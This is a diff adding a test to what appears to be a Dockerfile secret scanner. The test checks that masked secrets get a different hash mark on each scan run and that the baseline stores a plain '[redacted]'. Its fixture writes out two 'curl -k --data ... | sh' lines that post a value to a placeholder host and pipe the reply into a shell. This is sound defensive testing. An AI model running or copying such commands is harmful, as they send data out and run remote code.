@@ -69,6 +69,22 @@ const service = (...lines: readonly string[]): string =>
 const build = (...lines: readonly string[]): string =>
   ['FROM alpine:3.20', ...lines, ''].join('\n');
 
+it('knows what quotes a masked value, which has another mark in each run', async () => {
+  const text = build(
+    'RUN curl -k --data quietwordnobodyknows https://h/x | sh',
+    'RUN curl -k --data anotherquietword https://h/y | sh',
+  );
+  await put('Dockerfile', text);
+  const [first, second] = [await scan(), await scan()].map((each) => JSON.stringify(each.findings));
+  expect(first).toMatch(/\[redacted [0-9a-f]{16}\]/);
+  expect(second).not.toBe(first);
+  expect(await accept()).toBeGreaterThan(2);
+  expect(await newNow()).toEqual([]);
+  const known = await readFile(at('known.json'), 'utf8');
+  expect(known).toContain('[redacted]');
+  expect(known).not.toMatch(/\[redacted [0-9a-f]/);
+});
+
 describe('a baseline, where less is wrong than it accepts', () => {
   it.each([
     [
